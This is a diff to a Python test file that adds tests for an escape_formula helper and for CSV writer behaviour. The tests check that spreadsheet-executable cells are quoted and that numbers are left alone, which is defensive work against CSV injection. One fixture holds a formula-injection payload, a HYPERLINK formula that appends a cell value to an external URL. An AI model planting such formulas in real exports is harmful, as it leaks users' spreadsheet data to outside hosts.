@@ -18,7 +18,7 @@ from icpdsl.io import Row, json_reader, open_records, read_records
 from icpdsl.io.csv_reader import clean_header, sniff_delimiter
 from icpdsl.io.formats import format_from_bytes, format_from_name
 from icpdsl.io.table import TableWriter, fit
-from icpdsl.io.writers import CSVWriter, JSONArrayWriter, JSONLinesWriter
+from icpdsl.io.writers import CSVWriter, JSONArrayWriter, JSONLinesWriter, escape_formula
 
 
 def write(tmp_path: Path, name: str, data: bytes | str) -> Path:
@@ -336,6 +336,35 @@ def test_writers_stream_valid_documents() -> None:
             writer_json.write(row)
         writer_json.close()
         assert json.loads(array.getvalue()) == rows_out[:count]
+
+
+@pytest.mark.parametrize(
+    "cell", ["=1+1", "+1-1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "-", "=", "-5a", "--5"]
+)
+def test_text_a_spreadsheet_would_run_gets_a_quote(cell: str) -> None:
+    assert escape_formula(cell) == "'" + cell
+
+
+@pytest.mark.parametrize(
+    "cell", ["Acme", "a=b", " =1", "'=1", "", "-5", "+12", "-0.25", "-1e5", ".5", -5, -2.5, None]
+)
+def test_other_cells_and_numbers_stay_as_they_are(cell: object) -> None:
+    assert escape_formula(cell) == cell
+
+
+def test_csv_text_cells_are_escaped_unless_turned_off() -> None:
+    row = {"=id": '=HYPERLINK("http://x?"&A1)', "name": "@SUM(1)", "score": -5, "n": "-10"}
+    escaped, raw = io.StringIO(), io.StringIO()
+    CSVWriter(escaped, list(row)).write(row)
+    CSVWriter(raw, list(row), escape_formulas=False).write(row)
+    assert list(csv.reader(io.StringIO(escaped.getvalue()))) == [
+        ["'=id", "name", "score", "n"],
+        ['\'=HYPERLINK("http://x?"&A1)', "'@SUM(1)", "-5", "-10"],
+    ]
+    assert list(csv.reader(io.StringIO(raw.getvalue()))) == [
+        list(row),
+        ['=HYPERLINK("http://x?"&A1)', "@SUM(1)", "-5", "-10"],
+    ]
 
 
 def test_table_pads_columns_cuts_long_cells_and_colours_verdicts() -> None:
